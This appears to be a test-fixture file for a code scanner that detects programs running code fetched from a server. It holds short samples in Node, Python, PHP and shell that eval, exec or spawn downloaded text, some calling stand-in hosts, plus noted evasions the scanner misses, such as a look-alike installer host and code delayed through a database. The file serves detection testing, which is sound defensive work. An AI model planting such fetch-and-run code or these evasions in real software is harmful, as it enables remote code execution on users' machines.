import type { Examples } from "@doorward/core";

/** Programs that run what a server answers, and honest ones that fetch or evaluate. */
export const examples: Examples = {
  hits: [
    {
      name: "a server that evaluates an answer when it starts",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const axios = require("axios");
axios.get("https://api.example/check").then((answer) => eval(answer.data.code));
`,
      },
    },
    {
      name: "a Python program that runs what it downloads",
      files: {
        "main.py": `import requests
exec(requests.get("https://api.example/check").text)
`,
      },
    },
    {
      name: "text that reaches evaluation over an event",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { EventEmitter } = require("events");
const bus = new EventEmitter();
bus.on("ready", (text) => new Function(text)());
fetch("https://api.example/check").then((answer) => answer.text()).then((text) => bus.emit("ready", text));
`,
      },
    },
    {
      name: "an answer that a download program prints",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { execSync } = require("child_process");
eval(execSync("curl -s https://api.example/check").toString());
`,
      },
    },
    {
      name: "a download that is saved and started",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const fs = require("fs");
const { spawn } = require("child_process");
fetch("https://api.example/check").then((answer) => answer.text()).then((text) => {
  fs.writeFileSync("/tmp/cache-check.js", text);
  spawn("node", ["/tmp/cache-check.js"]);
});
`,
      },
    },
  ],
  misses: [
    {
      name: "an image that is built with the installer of a tool",
      why: "What runs while an image is built reaches nothing but the image.",
      files: {
        Dockerfile: "FROM node:22-slim\nRUN curl -fsSL https://tools.example/install.sh | sh\n",
      },
    },
    {
      name: "the installer of a well-known tool",
      why: "Only the makers of the tool can change what lies at this address.",
      files: {
        "setup.sh": "#!/bin/sh\ncurl --proto '=https' -sSf https://sh.rustup.rs | sh\n",
        Makefile: "setup:\n\tcurl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -\n",
      },
    },
    {
      name: "a request whose answer is shown",
      why: "The answer is data, and nothing of it is run.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `fetch("https://api.example/check").then((answer) => answer.json()).then((data) => console.log(data.price));
`,
      },
    },
    {
      name: "a module loader that fetches what its user names",
      why: "The library asks no address of its own; whoever uses it decides.",
      files: {
        "package.json": `{ "name": "lib", "version": "1.0.0", "main": "index.js" }
`,
        "index.js": `exports.load = async (address) => {
  const answer = await fetch(address);
  return new Function(await answer.text());
};
`,
      },
    },
    {
      name: "a page that loads a script from the network",
      why: "A browser loads scripts by address all the time, and keeps them inside the page.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `require("http").createServer().listen(3000);
`,
        "public/worker.js": `importScripts("https://cdn.example/messaging.js");
`,
      },
    },
    {
      name: "a development server that evaluates its own updates",
      why: "It asks this very computer, where the developer's own build answers.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `fetch("http://localhost:3000/update.js").then((answer) => answer.text()).then((text) => eval(text));
`,
      },
    },
  ],
  evasions: [
    {
      name: "the installer of a well-known tool from a host with a longer name",
      caughtBy: "code/fetched-code-runs",
      files: {
        Makefile: "setup:\n\tcurl -sSf https://sh.rustup.rs.example | sh\n",
      },
    },
    {
      name: "a PHP page that nothing in the arrival starts",
      caughtBy: "nothing",
      files: {
        "index.php": `<?php
$answer = file_get_contents("https://api.example/check");
eval($answer);
`,
      },
    },
    {
      name: "an answer that is kept in a database before it is run",
      caughtBy: "nothing",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const db = require("better-sqlite3")("cache.db");
fetch("https://api.example/check").then((answer) => answer.text()).then((text) => db.prepare("INSERT INTO jobs VALUES (?)").run(text));
setInterval(() => eval(db.prepare("SELECT text FROM jobs").pluck().get()), 1000);
`,
      },
    },
  ],
};
